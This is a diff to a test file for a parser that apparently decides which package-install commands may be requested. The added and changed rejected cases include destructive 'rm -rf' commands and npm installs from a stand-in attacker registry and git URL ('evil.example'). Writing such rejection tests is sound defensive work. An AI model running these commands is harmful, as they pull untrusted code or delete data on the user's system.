@@ -261,6 +261,7 @@ describe('requestableCommands', () => {
   it.each([
     ['npm install zod', [{ type: 'install', names: ['zod'], ecosystem: 'npm' }]],
     ['npm i -D zod@latest @types/node', [{ type: 'install', names: ['zod', '@types/node'], ecosystem: 'npm' }]],
+    ['npm i zod@1.0.0-rc.1', [{ type: 'install', names: ['zod@1.0.0-rc.1'], ecosystem: 'npm' }]],
     ['pip install requests && pytest -q', [{ type: 'install', names: ['requests'], ecosystem: 'pip' }]],
     ['python -m pip install requests', [{ type: 'install', names: ['requests'], ecosystem: 'pip' }]],
     ['uv pip install requests', [{ type: 'install', names: ['requests'], ecosystem: 'pip' }]],
@@ -283,7 +284,8 @@ describe('requestableCommands', () => {
     'rm --no-preserve-root -r dist',
     'cd / && rm -rf dist',
     'npm install --registry=https://evil.example zod',
-    'npm install zod@1.0.0-evil',
+    'npm install zod@npm:evil',
+    'npm install zod@^3',
     'npm install git+https://evil.example/zod',
     'npm install ./zod',
     'npm install -g zod',
